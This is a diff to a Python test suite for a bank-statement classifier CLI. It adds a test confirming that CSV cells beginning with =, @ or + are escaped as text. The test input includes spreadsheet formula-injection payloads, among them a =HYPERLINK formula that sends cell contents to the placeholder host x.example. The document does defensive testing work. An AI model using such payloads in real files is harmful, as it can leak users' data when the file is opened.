@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import subprocess
 import sys
@@ -891,3 +893,24 @@ def test_a_library_warning_is_one_txcat_line_without_the_library_path(
     assert "site-packages" not in result.stderr and "sklearn/" not in result.stderr
     assert all(line.startswith("txcat:") or not line.strip() or line.startswith(" ")
                for line in result.stderr.splitlines())
+
+
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
+        tmp_path: Path) -> None:
+    """A Pix payer names himself; a name such as =HYPERLINK(...) would run when the
+    output is opened in a spreadsheet. Numbers, negative ones included, stay numbers."""
+    statement = tmp_path / "extrato.csv"
+    statement.write_text(
+        "data,valor,codigo,descricao\n"
+        '03/09/2024,-30.50,=1+1,"=HYPERLINK(""http://x.example/?d=""&A1,""ver"")"\n'
+        "04/09/2024,20.00,@SUM(A1),+CADASTRO -PIX\n", encoding="utf-8")
+    result = CliRunner().invoke(main, ["classify", str(statement), "--format", "full"])
+    assert result.exit_code == 0, result.output
+    rows = list(csv.reader(io.StringIO(result.stdout)))
+    assert rows[1][:4] == ["03/09/2024", "-30.50", "'=1+1",
+                           "'=HYPERLINK(\"http://x.example/?d=\"&A1,\"ver\")"]
+    assert rows[2][1:4] == ["20.00", "'@SUM(A1)", "'+CADASTRO -PIX"]
+    plain = CliRunner().invoke(main, ["classify", str(statement)])
+    assert [r[0] for r in csv.reader(io.StringIO(plain.stdout))][1:] == ["'=1+1", "'@SUM(A1)"]
+    jsonl = CliRunner().invoke(main, ["classify", str(statement), "--format", "jsonl"])
+    assert json.loads(jsonl.stdout.splitlines()[0])["id"] == "=1+1"  # data, not a sheet
